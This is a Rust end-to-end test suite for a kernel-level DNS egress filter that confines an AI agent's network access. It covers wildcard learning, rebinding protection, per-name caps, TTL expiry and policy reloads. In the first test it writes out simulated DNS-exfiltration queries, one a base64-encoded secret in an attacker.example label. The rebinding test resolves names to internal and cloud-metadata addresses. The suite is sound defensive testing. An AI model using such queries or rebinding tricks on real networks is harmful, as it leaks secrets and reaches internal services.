//! The DNS-aware datapath with real packets through the real programs (cgroup
//! hooks): query names checked in the kernel, addresses learned from the
//! agent's own DNS answers (wildcards, CNAME chains), rebinding protection,
//! the per-name cap, live connections across an expiry, and learned
//! addresses surviving a policy re-apply.
//!
//! Every blocked target has a server behind it (or, for the agent's own
//! loopback, answers with a reset), and is first shown to work without the
//! policy; each drop is matched to its event by the probe's source port.
//!
//! Root-only; skipped with a message otherwise.

use crate::common;

use std::{collections::BTreeSet, net::IpAddr, thread, time::Duration};

use common::{
    DNS_ANSWERS_TOTAL, DNS_LEARNED_TOTAL, DNS_QUERIES_TOTAL, DNS_REFUSED_TOTAL,
    DROPPED_TCP_TIMEOUT_MS, DROPS_TOTAL, Rig, skip_unless_root,
};
use openclaw_egress_e2e::{HoldReport, ResolveConnectReport, WorldConfig, probe_error};

/// How long the world may take to log a query it answered.
const WORLD_LOG_TIMEOUT: Duration = Duration::from_secs(5);

fn ips(list: &[&str]) -> BTreeSet<IpAddr> {
    list.iter().map(|ip| ip.parse().unwrap()).collect()
}

/// A query for `name` through the allowed resolver, dropped because no rule
/// allows the name: checks the drop event names the query.
#[track_caller]
fn assert_query_denied(rig: &Rig, server: &str, name: &str, tcp: bool) {
    let mut args = vec!["dns", server, name];
    let error = if tcp {
        // The handshake passes (no question yet); the segment with the
        // query is dropped and retransmitted until the probe gives up.
        args.extend(["--tcp", "--timeout-ms", DROPPED_TCP_TIMEOUT_MS]);
        probe_error::TIMEOUT
    } else {
        probe_error::PERMISSION_DENIED
    };
    let event = rig.assert_dropped(&args, error, "dns_denied");
    // Names match case-insensitively, but events report them as sent (letter
    // case can carry exfiltrated data).
    assert_eq!(
        event["dns_name"], name,
        "the event names the refused query: {event}"
    );
}

// ---------------------------------------------------------------------------
// 1. Query names are checked in the kernel.
// ---------------------------------------------------------------------------

#[test]
fn dns_queries_for_unlisted_names_never_leave_the_agent() {
    if skip_unless_root() {
        return;
    }
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .dns("[fd77::1]:53")
        .record("api.example.com", "203.0.113.10")
        .record("api.example.com", "2001:db8:1::10");
    let rig = Rig::start(&world);
    // Queries an exfiltrating agent could send through the allowed
    // resolver: data in a label of an attacker's zone, and names close to
    // the allowed one. Each is distinct, so the world's log shows whether
    // that very query arrived.
    let udp_denied = [
        ("10.77.0.1", "c2VjcmV0LWtleQ.x.attacker.example"),
        ("[fd77::1]:53", "v6.x.attacker.example"),
        ("10.77.0.1", "example.com"),
        ("10.77.0.1", "www.api.example.com"),
        ("10.77.0.1", "api.example.com.attacker.example"),
        ("10.77.0.1", "api-example.com"),
    ];
    let tcp_denied = [
        ("10.77.0.1", "tcp.x.attacker.example"),
        ("[fd77::1]:53", "tcp6.x.attacker.example"),
    ];
    // Without the policy the world answers them all (NXDOMAIN: the query
    // arrived). Outside the cgroup, as no policy applies there.
    rig.assert_reachable_without_policy(&["dns", "10.77.0.1", "baseline.x.attacker.example"]);
    rig.assert_reachable_without_policy(&[
        "dns",
        "10.77.0.1",
        "baseline-tcp.x.attacker.example",
        "--tcp",
    ]);

    rig.apply(
        &rig.policy().fqdn("api.example.com", &["443/tcp"]),
        "policy.yaml",
    );
    let before = rig.metrics();

    for (server, name) in udp_denied {
        assert_query_denied(&rig, server, name, false);
    }
    // The allowed name is answered, in any case, over both families.
    rig.lookup("10.77.0.1", "api.example.com", "A", &["203.0.113.10"]);
    rig.lookup("10.77.0.1", "API.Example.COM", "A", &["203.0.113.10"]);
    rig.lookup(
        "[fd77::1]:53",
        "api.example.com",
        "AAAA",
        &["2001:db8:1::10"],
    );

    // UDP queries are one packet each, so the counters are exact.
    let after = rig.metrics();
    let delta = |name: &str, labels: &[(&str, &str)]| common::delta(&before, &after, name, labels);
    let denied = udp_denied.len() as u64;
    assert_eq!(delta(DNS_QUERIES_TOTAL, &[("verdict", "denied")]), denied);
    assert_eq!(delta(DNS_QUERIES_TOTAL, &[("verdict", "allowed")]), 3);
    assert_eq!(delta(DROPS_TOTAL, &[("reason", "dns_denied")]), denied);
    assert_eq!(delta(DROPS_TOTAL, &[]), denied, "no other drops");

    // Over TCP the same: the query segment never leaves.
    for (server, name) in tcp_denied {
        assert_query_denied(&rig, server, name, true);
    }
    for server in ["10.77.0.1", "[fd77::1]:53"] {
        let answer = rig.assert_allowed(&["dns", server, "api.example.com", "--tcp"]);
        assert_eq!(answer.answers, ["203.0.113.10"], "{answer:?}");
    }

    // The world saw the allowed queries (the last one is the sync point:
    // it was sent after every denied one) and none of the denied ones.
    let last = rig
        .world
        .wait_for_dns_query("api.example.com", WORLD_LOG_TIMEOUT)
        .expect("the world logged the allowed query");
    assert_eq!(last.rcode, "NOERROR");
    let seen: BTreeSet<String> = rig
        .world
        .dns_queries()
        .into_iter()
        .map(|q| q.name.trim_end_matches('.').to_owned())
        .collect();
    for (_, name) in udp_denied.iter().chain(&tcp_denied) {
        assert!(
            !seen.contains(&name.to_ascii_lowercase()),
            "the world received the denied query {name}: {seen:?}"
        );
    }
    assert!(seen.contains("baseline-tcp.x.attacker.example"), "{seen:?}");
}

// ---------------------------------------------------------------------------
// 2. Wildcards work through the agent's own answers.
// ---------------------------------------------------------------------------

/// Names under `*.pkg.test` and `**.cdn.test`, names just outside them, a
/// CNAME chain out of the pattern, all with a server on 443.
fn wildcard_world() -> WorldConfig {
    WorldConfig::new()
        .dns("10.77.0.1:53")
        .dns("[fd77::1]:53")
        .record("mirror.pkg.test", "203.0.113.50")
        .record("mirror.pkg.test", "2001:db8:50::50")
        .record("a.b.pkg.test", "203.0.113.51")
        .record("pkg.test", "203.0.113.52")
        .record("x.cdn.test", "203.0.113.53")
        .record("a.b.cdn.test", "203.0.113.54")
        .record("cdn.test", "203.0.113.55")
        .cname("www.pkg.test", "edge.elsewhere.test")
        .record("edge.elsewhere.test", "203.0.113.56")
        .record("other.pkg.test", "203.0.113.57")
        .tcp("203.0.113.50:443")
        .tcp("203.0.113.50:8443")
        .tcp("[2001:db8:50::50]:443")
        .tcp("203.0.113.51:443")
        .tcp("203.0.113.52:443")
        .tcp("203.0.113.53:443")
        .tcp("203.0.113.54:443")
        .tcp("203.0.113.55:443")
        .tcp("203.0.113.56:443")
        .tcp("203.0.113.57:443")
}

#[test]
fn wildcard_patterns_open_what_the_agents_own_lookups_return() {
    if skip_unless_root() {
        return;
    }
    let rig = Rig::start(&wildcard_world());
    for target in ["203.0.113.50:443", "203.0.113.54:443", "203.0.113.57:443"] {
        rig.assert_reachable_without_policy(&["tcp", target]);
    }
    rig.apply(
        &rig.policy()
            .fqdn_pattern("*.pkg.test", &["443/tcp"])
            .fqdn_pattern("**.cdn.test", &["443/tcp"]),
        "policy.yaml",
    );
    let learned_before = rig.counter(DNS_LEARNED_TOTAL, &[]);

    // Nothing is open before the agent looks a name up: a pattern cannot be
    // resolved ahead of time.
    rig.assert_tcp_dropped("203.0.113.50:443", "no_rule");
    rig.assert_tcp_dropped("203.0.113.54:443", "no_rule");

    // `*.` is one label (any case), on both families.
    rig.lookup("10.77.0.1", "MIRROR.Pkg.Test", "A", &["203.0.113.50"]);
    rig.lookup(
        "[fd77::1]:53",
        "mirror.pkg.test",
        "AAAA",
        &["2001:db8:50::50"],
    );
    let greeting = rig.assert_allowed(&["tcp", "203.0.113.50:443"]);
    assert_eq!(
        greeting.detail.as_deref(),
        Some("hello from 203.0.113.50:443")
    );
    rig.assert_allowed(&["tcp", "[2001:db8:50::50]:443"]);
    // Only on the rule's port.
    rig.assert_tcp_dropped("203.0.113.50:8443", "no_rule");
    // Two labels, or none, are not `*.`: not even asked.
    assert_query_denied(&rig, "10.77.0.1", "a.b.pkg.test", false);
    assert_query_denied(&rig, "10.77.0.1", "pkg.test", false);

    // `**.` is one or more labels.
    rig.lookup("10.77.0.1", "x.cdn.test", "A", &["203.0.113.53"]);
    rig.lookup("10.77.0.1", "a.b.cdn.test", "A", &["203.0.113.54"]);
    rig.assert_allowed(&["tcp", "203.0.113.53:443"]);
    rig.assert_allowed(&["tcp", "203.0.113.54:443"]);
    assert_query_denied(&rig, "10.77.0.1", "cdn.test", false);

    // A CNAME chain: the allowed question's answer opens the address at the
    // end of the chain, although its own name is not allowed.
    let chain = rig.lookup("10.77.0.1", "www.pkg.test", "A", &["203.0.113.56"]);
    assert_eq!(chain.cnames, ["edge.elsewhere.test."], "{chain:?}");
    rig.assert_allowed(&["tcp", "203.0.113.56:443"]);
    assert_query_denied(&rig, "10.77.0.1", "edge.elsewhere.test", false);

    // Nothing a denied query would have returned is open.
    for target in ["203.0.113.51:443", "203.0.113.52:443", "203.0.113.55:443"] {
        rig.assert_tcp_dropped(target, "no_rule");
    }
    // A lookup by a process outside the workload's cgroup opens nothing
    // for the workload.
    rig.assert_reachable_without_policy(&["dns", "10.77.0.1", "other.pkg.test"]);
    rig.assert_tcp_dropped("203.0.113.57:443", "no_rule");

    // status shows each address under the pattern that let it in.
    assert_eq!(
        rig.status_addresses("*.pkg.test"),
        ips(&["203.0.113.50", "2001:db8:50::50", "203.0.113.56"])
    );
    assert_eq!(
        rig.status_addresses("**.cdn.test"),
        ips(&["203.0.113.53", "203.0.113.54"])
    );
    assert_eq!(rig.counter(DNS_LEARNED_TOTAL, &[]) - learned_before, 5);
}

// ---------------------------------------------------------------------------
// 3. The race: a connect right after the lookup is never dropped.
// ---------------------------------------------------------------------------

#[test]
fn connect_right_after_each_lookup_of_a_fresh_address_is_never_dropped() {
    if skip_unless_root() {
        return;
    }
    // Every lookup hands out an address never seen before (in 11.0.0.0/16,
    // a public block: rebinding protection must not refuse it, and the world
    // netns has no way out), with a server on 443; the
    // name only matches a wildcard, so nothing can be resolved ahead.
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .dns("[fd77::1]:53")
        .fresh_ips("fresh.race.test", "11.0.0.0/16")
        .fresh_ips("fresh.race.test", "2001:db8:18::/64")
        .fresh_tcp_port(443);
    let rig = Rig::start(&world);
    const V4_ROUNDS: u64 = 200;
    const V6_ROUNDS: u64 = 50;
    // The per-name cap (default 64 per TTL window) would refuse most of
    // these fresh addresses of one name: raised to the maximum.
    rig.apply(
        &rig.policy()
            .max_ips_per_name(1024)
            .fqdn_pattern("*.race.test", &["443/tcp"]),
        "policy.yaml",
    );
    let before = rig.metrics();
    let retransmits_before = rig.sandbox.agent_tcp_retransmits().unwrap();

    let v4: ResolveConnectReport = rig.probe_json(&[
        "resolve-connect",
        "10.77.0.1",
        "fresh.race.test",
        "443",
        "--count",
        &V4_ROUNDS.to_string(),
    ]);
    let v6: ResolveConnectReport = rig.probe_json(&[
        "resolve-connect",
        "[fd77::1]:53",
        "fresh.race.test",
        "443",
        "--type",
        "AAAA",
        "--count",
        &V6_ROUNDS.to_string(),
    ]);

    let retransmits = rig.sandbox.agent_tcp_retransmits().unwrap() - retransmits_before;
    let after = rig.metrics();
    let delta = |name: &str, labels: &[(&str, &str)]| common::delta(&before, &after, name, labels);
    let drops = after.drop_series();
    for (report, rounds) in [(&v4, V4_ROUNDS), (&v6, V6_ROUNDS)] {
        assert_eq!(report.count, rounds);
        report.assert_all_ok();
        assert_eq!(report.distinct_addresses, rounds, "{report:?}");
    }
    assert_eq!(delta(DROPS_TOTAL, &[]), 0, "no packet dropped: {drops:?}");
    assert_eq!(
        retransmits,
        0,
        "no segment retransmitted (a dropped SYN is sent again after 1 s); slowest connects: \
         IPv4 {} us (round {:?}, {:?}), IPv6 {} us (round {:?}, {:?})",
        v4.max_connect_us,
        v4.slowest_round,
        v4.slowest_addr,
        v6.max_connect_us,
        v6.slowest_round,
        v6.slowest_addr,
    );
    assert_eq!(delta(DNS_LEARNED_TOTAL, &[]), V4_ROUNDS + V6_ROUNDS);
    assert_eq!(
        delta(DNS_QUERIES_TOTAL, &[("verdict", "allowed")]),
        V4_ROUNDS + V6_ROUNDS
    );
    assert_eq!(
        delta(DNS_ANSWERS_TOTAL, &[("result", "parsed")]),
        V4_ROUNDS + V6_ROUNDS
    );

    // The range is not open as such: an address the agent did not look up
    // itself (the next one, resolved outside the cgroup) stays closed.
    let outside = rig
        .sandbox
        .probe_outside_cgroup(&["dns", "10.77.0.1", "fresh.race.test"])
        .unwrap();
    let [next] = outside.answer_ips()[..] else {
        panic!("expected one fresh address, got {outside:?}");
    };
    rig.assert_tcp_dropped(&format!("{next}:443"), "no_rule");
}

// ---------------------------------------------------------------------------
// 4. Expiry stops new connections, never a live one.
// ---------------------------------------------------------------------------

#[test]
fn a_live_connection_outlives_the_expiry_of_its_address() {
    if skip_unless_root() {
        return;
    }
    // TTL 1 s in the world, minTTL 1 in the policy: the learned address
    // expires one second after each answer.
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .ttl(1)
        .record("short.ttl.test", "203.0.113.70")
        .tcp("203.0.113.70:443");
    let rig = Rig::start(&world);
    rig.apply(
        &rig.policy()
            .min_ttl(1)
            // The held connection speaks plain TCP: no TLS server name.
            .fqdn_pattern("*.ttl.test", &["443/tcp"])
            .rule_field("tls", "[]"),
        "policy.yaml",
    );
    const TARGET: &str = "203.0.113.70:443";

    thread::scope(|scope| {
        // One connection, opened right after its own lookup (in the same
        // process, well within the second), then used every 200 ms for 4 s.
        let holder = scope.spawn(|| {
            rig.probe_json::<HoldReport>(&[
                "hold",
                "short.ttl.test:443",
                "--dns-server",
                "10.77.0.1",
                "--seconds",
                "4",
                "--interval-ms",
                "200",
            ])
        });
        rig.world
            .wait_for_dns_query("short.ttl.test", WORLD_LOG_TIMEOUT)
            .expect("the holder looked the name up");

        // New connections work until the address expires, then are dropped
        // as `expired` (the entry lingers; it is not `no_rule`).
        let event = common::poll_until(
            "a new connection is dropped",
            Duration::from_secs(8),
            || {
                let outcome = rig.probe(&["tcp", TARGET, "--timeout-ms", DROPPED_TCP_TIMEOUT_MS]);
                if outcome.ok {
                    thread::sleep(Duration::from_millis(100));
                    return Err("still allowed".to_owned());
                }
                assert_eq!(
                    outcome.error.as_deref(),
                    Some(rig.refused_connect_error()),
                    "{outcome:?}"
                );
                Ok(rig.wait_for_drop_event(outcome.local.expect("a local address")))
            },
        );
        assert_eq!(event["reason"], "expired", "{event}");
        assert_eq!(event["dst"], "203.0.113.70", "{event}");
        // The held connection was still in use when that happened, and
        // rounds go on after it.
        assert!(
            !holder.is_finished(),
            "the held connection ended before the address expired"
        );

        let held = holder
            .join()
            .unwrap_or_else(|panic| std::panic::resume_unwind(panic));
        held.assert_all_ok();
        assert_eq!(held.lookup_answers, ["203.0.113.70"]);
        // Rounds every 200 ms for 4 s, most of them after the expiry (a
        // little slack for a loaded machine).
        assert!(held.rounds_ok >= 15, "{held:?}");
        let local = held.local.expect("the held connection's local address");
        let own_drops: Vec<_> = rig
            .daemon
            .drop_events()
            .into_iter()
            .filter(|e| e.is_from(local))
            .collect();
        assert!(
            own_drops.is_empty(),
            "the held connection lost packets: {own_drops:?}"
        );
    });

    // A new lookup opens the address again (connecting at once: it expires
    // again a second later).
    let again: ResolveConnectReport =
        rig.probe_json(&["resolve-connect", "10.77.0.1", "short.ttl.test", "443"]);
    again.assert_all_ok();
}

// ---------------------------------------------------------------------------
// 5. DNS rebinding.
// ---------------------------------------------------------------------------

/// Names under `*.rebind.test` that resolve to internal addresses (all
/// routable from the agent, with servers, except its own loopback), and a
/// public control.
fn rebinding_world() -> WorldConfig {
    WorldConfig::new()
        .dns("10.77.0.1:53")
        .dns("[fd77::1]:53")
        .record("private.rebind.test", "10.1.2.3")
        .record("loop.rebind.test", "127.0.0.1")
        .record("meta.rebind.test", "169.254.169.254")
        .record("ula.rebind.test", "fd12:3456::3")
        .record("public.rebind.test", "203.0.113.80")
        .tcp("10.1.2.3:443")
        .tcp("169.254.169.254:443")
        .tcp("[fd12:3456::3]:443")
        .tcp("203.0.113.80:443")
}

#[test]
fn names_resolving_to_internal_addresses_open_nothing_unless_a_cidr_rule_covers_them() {
    if skip_unless_root() {
        return;
    }
    let rig = Rig::start(&rebinding_world());
    let internal = ["10.1.2.3:443", "169.254.169.254:443", "[fd12:3456::3]:443"];
    for target in internal {
        rig.assert_reachable_without_policy(&["tcp", target]);
    }
    // Nothing listens on the agent's own loopback: a reset, i.e. the SYN
    // got there.
    rig.sandbox
        .probe_outside_cgroup(&["tcp", "127.0.0.1:443"])
        .unwrap()
        .assert_error(probe_error::REFUSED);

    let policy = rig.policy().fqdn_pattern("*.rebind.test", &["443/tcp"]);
    rig.apply(&policy, "policy.yaml");
    let refused_before = rig.counter(DNS_REFUSED_TOTAL, &[("reason", "internal")]);
    let learned_before = rig.counter(DNS_LEARNED_TOTAL, &[]);

    // The names are allowed, so the answers reach the agent...
    for (server, name, qtype, address) in [
        ("10.77.0.1", "private.rebind.test", "A", "10.1.2.3"),
        ("10.77.0.1", "loop.rebind.test", "A", "127.0.0.1"),
        ("10.77.0.1", "meta.rebind.test", "A", "169.254.169.254"),
        ("[fd77::1]:53", "ula.rebind.test", "AAAA", "fd12:3456::3"),
        ("10.77.0.1", "public.rebind.test", "A", "203.0.113.80"),
    ] {
        rig.lookup(server, name, qtype, &[address]);
    }
    // ...but only the public address opened.
    rig.assert_allowed(&["tcp", "203.0.113.80:443"]);
    for target in internal.into_iter().chain(["127.0.0.1:443"]) {
        rig.assert_tcp_dropped(target, "no_rule");
    }
    assert_eq!(
        rig.counter(DNS_REFUSED_TOTAL, &[("reason", "internal")]) - refused_before,
        4
    );
    assert_eq!(rig.counter(DNS_LEARNED_TOTAL, &[]) - learned_before, 1);
    assert_eq!(
        rig.status_addresses("*.rebind.test"),
        ips(&["203.0.113.80"])
    );

    // A CIDR rule covering 10.1.2.0/24 (on another port, so that it does
    // not open 10.1.2.3:443 by itself) makes the address learnable.
    rig.apply(
        &policy.cidr("10.1.2.0/24", &["5432/tcp"]),
        "policy-with-cidr.yaml",
    );
    rig.assert_tcp_dropped("10.1.2.3:443", "no_rule");
    let refused_before = rig.counter(DNS_REFUSED_TOTAL, &[("reason", "internal")]);
    rig.lookup("10.77.0.1", "private.rebind.test", "A", &["10.1.2.3"]);
    rig.assert_allowed(&["tcp", "10.1.2.3:443"]);
    // The others stay refused.
    for (name, address) in [
        ("loop.rebind.test", "127.0.0.1"),
        ("meta.rebind.test", "169.254.169.254"),
    ] {
        rig.lookup("10.77.0.1", name, "A", &[address]);
    }
    for target in ["127.0.0.1:443", "169.254.169.254:443"] {
        rig.assert_tcp_dropped(target, "no_rule");
    }
    assert_eq!(
        rig.counter(DNS_REFUSED_TOTAL, &[("reason", "internal")]) - refused_before,
        2
    );
    assert_eq!(
        rig.status_addresses("*.rebind.test"),
        ips(&["203.0.113.80", "10.1.2.3"])
    );
}

// ---------------------------------------------------------------------------
// 6. The per-name cap.
// ---------------------------------------------------------------------------

#[test]
fn a_name_opens_at_most_max_ips_per_name_addresses() {
    if skip_unless_root() {
        return;
    }
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .record("three.cap.test", "203.0.113.61")
        .record("three.cap.test", "203.0.113.62")
        .record("three.cap.test", "203.0.113.63")
        .record("other.cap.test", "203.0.113.64")
        .tcp("203.0.113.61:443")
        .tcp("203.0.113.62:443")
        .tcp("203.0.113.63:443")
        .tcp("203.0.113.64:443");
    let rig = Rig::start(&world);
    let all = ["203.0.113.61", "203.0.113.62", "203.0.113.63"];
    rig.apply(
        &rig.policy()
            .max_ips_per_name(2)
            .fqdn_pattern("*.cap.test", &["443/tcp"]),
        "policy.yaml",
    );
    let cap = || rig.counter(DNS_REFUSED_TOTAL, &[("reason", "cap")]);
    let cap_before = cap();

    // The agent gets the whole answer; two of its addresses are opened.
    rig.lookup("10.77.0.1", "three.cap.test", "A", &all);
    let connectable = |rig: &Rig| -> BTreeSet<IpAddr> {
        all.iter()
            .filter(|ip| {
                let outcome = rig.probe(&[
                    "tcp",
                    &format!("{ip}:443"),
                    "--timeout-ms",
                    DROPPED_TCP_TIMEOUT_MS,
                ]);
                if !outcome.ok {
                    let event = rig.wait_for_drop_event(outcome.local.expect("local address"));
                    assert_eq!(event["reason"], "no_rule", "{event}");
                }
                outcome.ok
            })
            .map(|ip| ip.parse().unwrap())
            .collect()
    };
    let open = connectable(&rig);
    assert_eq!(
        open.len(),
        2,
        "exactly two of {all:?} should be open, got {open:?}"
    );
    assert_eq!(cap() - cap_before, 1);

    // Asking again changes nothing: the two open addresses cost nothing,
    // the third is refused again.
    rig.lookup("10.77.0.1", "three.cap.test", "A", &all);
    assert_eq!(connectable(&rig), open);
    assert_eq!(cap() - cap_before, 2);

    // The cap is per name: another name under the same pattern has its own.
    rig.lookup("10.77.0.1", "other.cap.test", "A", &["203.0.113.64"]);
    rig.assert_allowed(&["tcp", "203.0.113.64:443"]);
    let mut shown = open.clone();
    shown.insert("203.0.113.64".parse().unwrap());
    assert_eq!(rig.status_addresses("*.cap.test"), shown);
}

// ---------------------------------------------------------------------------
// 9. Re-applying a policy keeps what the agent learned.
// ---------------------------------------------------------------------------

#[test]
fn reapplying_a_policy_keeps_the_addresses_the_agent_learned() {
    if skip_unless_root() {
        return;
    }
    let world = WorldConfig::new()
        .dns("10.77.0.1:53")
        .record("mirror.pkg.test", "203.0.113.50")
        .record("api.example.com", "203.0.113.10")
        .tcp("203.0.113.50:443")
        .tcp("203.0.113.50:8443")
        .tcp("203.0.113.10:443");
    let rig = Rig::start(&world);
    const LEARNED: &str = "203.0.113.50:443";
    let policy = rig.policy().fqdn_pattern("*.pkg.test", &["443/tcp"]);
    let path = rig.apply(&policy, "policy.yaml");
    rig.lookup("10.77.0.1", "mirror.pkg.test", "A", &["203.0.113.50"]);
    rig.assert_allowed(&["tcp", LEARNED]);

    // The same file again.
    rig.daemon
        .apply(&path)
        .unwrap_or_else(|e| panic!("re-applying: {e:#}"));
    rig.assert_allowed(&["tcp", LEARNED]);
    assert_eq!(rig.status_addresses("*.pkg.test"), ips(&["203.0.113.50"]));

    // A new version with an extra rule, and an extra port for the pattern:
    // the address is carried over to it too.
    let extended = rig
        .policy()
        .fqdn("api.example.com", &["443/tcp"])
        .fqdn_pattern("*.pkg.test", &["443/tcp", "8443/tcp"]);
    rig.apply(&extended, "extended.yaml");
    rig.assert_allowed(&["tcp", LEARNED]);
    rig.assert_allowed(&["tcp", "203.0.113.50:8443"]);
    rig.assert_allowed(&["tcp", "203.0.113.10:443"]);

    // A version without the pattern forgets it.
    rig.apply(
        &rig.policy().fqdn("api.example.com", &["443/tcp"]),
        "without-pattern.yaml",
    );
    rig.assert_tcp_dropped(LEARNED, "no_rule");

    // No lookup of the name happened after the first: the address came
    // from the agent's one answer, carried over each time.
    let asked = rig
        .world
        .dns_queries()
        .iter()
        .filter(|q| q.name == "mirror.pkg.test.")
        .count();
    assert_eq!(asked, 1, "{:?}", rig.world.dns_queries());
}
